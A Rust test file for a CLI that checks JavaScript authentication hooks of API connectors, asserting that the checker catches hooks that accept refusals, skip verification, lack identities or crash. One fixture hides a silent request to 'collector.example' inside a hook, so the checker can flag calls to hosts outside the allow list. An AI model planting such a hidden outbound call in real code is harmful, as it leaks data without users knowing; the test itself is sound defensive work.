//! `connector check`, `list` and `show` of a connector with a module: what each answer comes to, and what is wrong.

use serde_json::{Value, json};

use crate::support::{Ran, Room};

const DECLARATION: &str = r#"name = "Acme"
base_url = "https://api.acme.example"

[[auth]]
name = "Key"
type = "hook"
allowed_hosts = ["*.acme.example", "login.acme.example:8443"]
environment = ["ACME_REGION"]
fields = [{ name = "apiKey", secret = true, example = "k-1" }, { name = "plan", managed = true, hidden = true }]
"#;

/// The value of the key, made rightly.
const BASIC: &str = "exports.getBasicAuth = ({ apiKey }) => Buffer.from(apiKey + ':').toString('base64');\n";

/// Asks who it is, and believes no answer but 200.
const ASKS: &str = "const axios = require('axios');
exports.getUserInfo = async ({ authHeader, hostname }) => {
  try {
    const { data } = await axios.get(`https://${hostname}/v1/me`, { headers: { Authorization: authHeader } });
    return { successful: true, platformUserInfo: { id: data.id, name: data.name } };
  } catch (error) {
    return { successful: false, returnMessage: { messageType: 'warning', message: 'Wrong key' } };
  }
};\n";

fn room(module: &str) -> Room {
    let room = Room::new();
    room.write("mine/acme/connector.toml", DECLARATION);
    room.write("mine/acme/connector.js", module);
    room
}

fn check(room: &Room) -> (i32, Value) {
    let ran = room.run(&["connector", "check", "mine", "--json"]);
    let rows = ran.json();
    (ran.code, rows[0].clone())
}

/// What is wrong with a module that makes the value rightly.
#[track_caller]
fn problem(get_user_info: &str) -> String {
    let (code, row) = check(&room(&format!("{BASIC}{get_user_info}")));
    assert_eq!((code, &row["ok"]), (1, &json!(false)), "{row}");
    row["problem"].as_str().unwrap().to_owned()
}

/// A `getUserInfo` that asks, with what it does with the answer's status.
fn asking(and: &str) -> String {
    format!(
        "exports.getUserInfo = async ({{ authHeader, hostname }}) => {{
  const answer = await fetch(`https://${{hostname}}/v1/me`, {{ headers: {{ Authorization: authHeader }} }});
  {and}
}};\n"
    )
}

#[test]
fn a_good_module_says_yes_to_a_200_alone() {
    let room = room(&format!("{BASIC}{ASKS}"));
    let (code, row) = check(&room);
    assert_eq!((code, &row["problem"]), (0, &Value::Null), "{row}");
    let outcomes: Vec<_> =
        row["outcomes"].as_array().unwrap().iter().map(|one| (&one["answer"], &one["came"])).collect();
    let refused = &json!("refused: Wrong key");
    assert_eq!(
        outcomes,
        [
            (&json!("200"), &json!("signs in as Stand-In")),
            (&json!("401"), refused),
            (&json!("403"), refused),
            (&json!("429"), refused),
            (&json!("a dead host"), refused),
        ]
    );
    let text = room.run(&["connector", "check", "mine"]).succeeded().stdout;
    assert!(text.contains("ok    Acme 1.0 Key (against a stand-in; whether the API itself takes"), "{text}");
    assert!(text.contains("\n      a dead host  refused: Wrong key\n"), "{text}");
}

#[test]
fn errors_of_requests_may_be_let_through() {
    let lets = "const axios = require('axios');
exports.getUserInfo = async ({ hostname }) => {
  const { data } = await axios.get(`https://${hostname}/v1/me`);
  return { successful: true, platformUserInfo: data.user };
};\n";
    let (code, row) = check(&room(&format!("{BASIC}{lets}")));
    assert_eq!(code, 0, "{row}");
    let came = row["outcomes"][1]["came"].as_str().unwrap();
    assert!(came.starts_with("refused, by an error that was not caught: "), "{came}");
    assert!(came.contains("Request failed with status code 401"), "{came}");
}

#[test]
fn a_hook_that_takes_a_refusal_for_a_yes_is_found() {
    let problem = problem(&asking("return { successful: true, platformUserInfo: { id: 'x' } };"));
    assert_eq!(
        problem,
        "after 401, 403, 429, it takes that for a yes; not set, of the variables that it may read: ACME_REGION"
    );
}

#[test]
fn a_hook_that_asks_nobody_is_found() {
    let problem =
        problem("exports.getUserInfo = () => ({ successful: true, platformUserInfo: { id: 1 } });\n");
    let found = "after 200, 401, 403, 429, a dead host, it is content without asking anybody; ";
    assert!(problem.starts_with(found) && !problem.contains("check.json"), "{problem}");
}

#[test]
fn a_missing_identity_is_found_unless_the_apis_own_answer_has_one() {
    let module = asking(
        "if (!answer.ok) return { successful: false };
  const { account } = await answer.json();
  return { successful: true, platformUserInfo: { id: account && account.number, name: 'Jo' } };",
    );
    let room = room(&format!("{BASIC}{module}"));
    let (code, row) = check(&room);
    let problem = row["problem"].as_str().unwrap();
    assert_eq!(code, 1);
    assert!(problem.contains("getUserInfo: what it returned lacks `platformUserInfo.id`"), "{problem}");
    assert!(problem.contains("where the API answers otherwise, say so in check.json"), "{problem}");

    room.write("mine/acme/check.json", r#"{ "GET /v1/me": { "account": { "number": 7 } } }"#);
    let (code, row) = check(&room);
    assert_eq!((code, &row["outcomes"][0]["came"]), (0, &json!("signs in as Jo")), "{row}");
    room.write("mine/acme/check.json", r#"{ "GET /v1/me": { "account": {} } }"#);
    let (code, row) = check(&room);
    assert_eq!(code, 1);
    assert!(
        !row["problem"].as_str().unwrap().contains("check.json"),
        "the answer is the author's own: {row}"
    );
    room.write("mine/acme/check.json", "[]");
    let (code, row) = check(&room);
    assert_eq!(code, 1);
    assert!(row["problem"].as_str().unwrap().contains("check.json is no object of bodies"), "{row}");
}

#[test]
fn a_request_to_another_host_is_found_though_the_hook_hides_it() {
    let problem = problem(
        "exports.getUserInfo = async ({ hostname }) => {
  await fetch('https://collector.example/?k=1').catch(() => {});
  const answer = await fetch(`https://eu.acme.example/v1/me`);
  return { successful: answer.ok, platformUserInfo: { id: 1 } };
};\n",
    );
    let found = "connector 'Acme' may not call 'collector.example'; its definition allows 'api.acme.example', \
                 '*.acme.example', 'login.acme.example:8443'";
    assert!(problem.contains(found), "{problem}");
    assert_eq!(problem.matches("collector.example").count(), 1, "said once: {problem}");
}

#[test]
fn a_slip_is_told_with_its_file_and_line() {
    let problem = problem(&asking(
        "if (!answer.ok) return { successful: false };
  const body = await answer.json();
  return body.no.such.member;",
    ));
    assert!(
        problem.contains("after 200, the connector `Acme`, getUserInfo: it failed and said: "),
        "{problem}"
    );
    assert!(problem.contains("(connector.js:6)"), "{problem}");
    // In the way that a refusal takes, too.
    let problem = problem_of_refusal();
    assert!(problem.contains("after a dead host, ") && problem.contains("(connector.js:7)"), "{problem}");
}

fn problem_of_refusal() -> String {
    problem(
        "const axios = require('axios');
exports.getUserInfo = async ({ hostname }) => {
  try {
    const { data } = await axios.get(`https://${hostname}/v1/me`);
    return { successful: true, platformUserInfo: { id: data.id } };
  } catch (error) { return { successful: false, returnMessage: { message: error.response.data.error } }; }
};\n",
    )
}

#[test]
fn what_breaks_a_rule_before_anything_is_asked_is_said_once() {
    for (module, said) in [
        (
            format!("exports.getBasicAuth = () => 'Basic azo=';\n{ASKS}"),
            "getBasicAuth: return the value without the prefix `Basic `",
        ),
        (
            format!("exports.getBasicAuth = async () => 'azo=';\n{ASKS}"),
            "getBasicAuth: it returned a promise",
        ),
        (format!("exports.getBasicAuth = ({{ apiKey }}) => apiKey.no.such;\n{ASKS}"), "(connector.js:1)"),
        (format!("\nnull.thing;\n{BASIC}{ASKS}"), "(connector.js:2)"),
        (BASIC.to_owned(), "getUserInfo: the module does not export it"),
    ] {
        let (code, row) = check(&room(&module));
        let problem = row["problem"].as_str().unwrap();
        assert!(code == 1 && problem.contains(said), "{said}: {problem}");
        assert_eq!(problem.matches("the connector `Acme`").count(), 1, "{problem}");
    }
}

#[test]
fn a_module_that_is_not_there_is_said() {
    let room = Room::new();
    room.write("mine/acme/connector.toml", DECLARATION);
    let ran: Ran = room.run(&["connector", "check", "mine"]);
    assert!(ran.code == 1 && ran.stdout.contains("there is no `connector.js`"), "{ran:?}");
}

#[test]
fn list_and_show_say_what_is_known_of_a_module() {
    let room = room(&format!("{BASIC}{ASKS}"));
    let list = room.run(&["connector", "list", "--connectors", "mine", "--json"]).succeeded().json();
    let acme = list.as_array().unwrap().iter().find(|row| row["name"] == "Acme").unwrap();
    assert_eq!((&acme["auth_types"], &acme["modules"]), (&json!(["ApiKey"]), &json!(["connector.js"])));
    let show = ["connector", "show", "Acme", "--connectors", "mine"];
    let shown = room.run(&[&show[..], &["--json"]].concat()).succeeded().json();
    let module = json!({
        "file": "connector.js",
        "interfaces": ["getBasicAuth", "getUserInfo"],
        "problem": null,
        "allowed_hosts": ["api.acme.example", "*.acme.example", "login.acme.example:8443"],
        "environment": ["ACME_REGION"],
    });
    assert_eq!(shown["ways_in"][0]["module"], module);
    let plan = &shown["ways_in"][0]["fields"][1];
    assert_eq!((&plan["managed"], &plan["hidden"]), (&json!("account"), &json!(true)));
    let text = room.run(&show).succeeded().stdout;
    for line in [
        "connector.js, whose getUserInfo verifies",
        "getBasicAuth, getUserInfo",
        "api.acme.example, *.acme.example, login.acme.example:8443",
        "an administrator's, by account; not in forms",
    ] {
        assert!(text.contains(line), "{line:?} is missing:\n{text}");
    }
    assert!(!text.contains("stay Unverified"), "{text}");

    room.write("mine/acme/connector.js", "throw new Error('not today');");
    let shown = room.run(&show).succeeded().stdout;
    assert!(shown.contains("Broken") && shown.contains("not today (connector.js:1)"), "{shown}");
}
